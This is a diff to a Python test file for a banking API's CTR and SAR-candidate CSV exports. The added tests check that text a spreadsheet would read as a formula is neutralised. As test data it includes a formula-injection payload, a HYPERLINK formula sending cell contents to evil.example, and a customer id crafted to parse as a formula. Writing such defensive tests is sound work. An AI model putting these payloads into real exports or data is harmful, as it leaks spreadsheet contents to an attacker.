@@ -33,6 +33,7 @@ from schemas.codec import get_codec
 from streams.projections.base import EventRecord
 from streams.projections.postgres import PostgresProjection
 from tests.readmodels import pg_dump, wait_caught_up
+from api.csv_export import csv_cell
 from tests.support import Bank, staff
 
 pytestmark = pytest.mark.usefixtures("stack")
@@ -482,8 +483,52 @@ def _csv_rows(response: httpx.Response) -> list[dict[str, str]]:
 
 
 def _as_csv(item: dict[str, Any]) -> dict[str, str]:
-    """A JSON report line as its CSV row: lists joined with ';', null as empty, numbers as text."""
-    return {k: ";".join(v) if isinstance(v, list) else "" if v is None else str(v) for k, v in item.items()}
+    """A JSON report line as its CSV row: lists joined with ';', null as empty, numbers as text, and text a
+    spreadsheet would take for a formula neutralised (tests below check that one against literal cells)."""
+    return {k: str(csv_cell(v)) for k, v in item.items()}
+
+
+async def _cash_with_formulas(api_url: str, bank: Bank) -> tuple[str, dict[str, Any]]:
+    """Through the API, as a teller: cash of 10,000.00 (a CTR alert, so a SAR candidate too) for a customer id and
+    from a counterparty a spreadsheet would take for formulas. The customer id, and the deposit's outcome."""
+    customer = f"-2-3-cmd-{uuid.uuid4().hex[:8]}"      # an identifier may begin with '-': "=-2-3-..." to Excel
+    teller = Bank(api_url)
+    try:
+        account = await teller.open(customer=customer)
+        response = await teller.post(f"/v1/accounts/{account}/deposits", {
+            "amount": "10000.00", "currency": "EUR", "channel": "cash", "counterparty_name": FORMULA_NAME})
+        assert response.status_code == 200, response.text
+        bank.position = teller.position
+        return customer, response.json()
+    finally:
+        await teller.close()
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'
+
+
+def test_the_ctr_csv_neutralises_formulas(scenario_runner: Any, api_url: str) -> None:
+    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
+        customer, deposit = await _cash_with_formulas(api_url, bank)
+        day = datetime.fromisoformat(deposit["events"][-1]["occurred_at"]).astimezone(UTC).date()
+        rows = _csv_rows(await bank.get("/v1/admin/reports/ctr.csv", date=day.isoformat()))
+        [row] = [r for r in rows if r["customer_id"].endswith(customer)]
+        assert (row["customer_id"], row["total"]) == ("'" + customer, "10000.00"), row
+
+    scenario_runner(scenario)
+
+
+def test_the_sar_csv_neutralises_formulas(scenario_runner: Any, api_url: str) -> None:
+    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
+        customer, deposit = await _cash_with_formulas(api_url, bank)
+        now = datetime.now(UTC)
+        period = {"from": (now - timedelta(days=1)).isoformat(), "to": (now + timedelta(days=1)).isoformat()}
+        rows = _csv_rows(await bank.get("/v1/admin/reports/sar-candidates.csv", **period))
+        [row] = [r for r in rows if r["case_id"] == deposit["command_id"]]
+        assert (row["customer_id"], row["counterparty_name"]) == ("'" + customer, "'" + FORMULA_NAME), row
+        assert row["amount"] == "10000.00" and "ctr" in row["aml_kinds"], row
+
+    scenario_runner(scenario)
 
 
 def test_the_currency_transaction_report_adds_up_a_customers_cash_across_accounts(scenario_runner: Any) -> None:
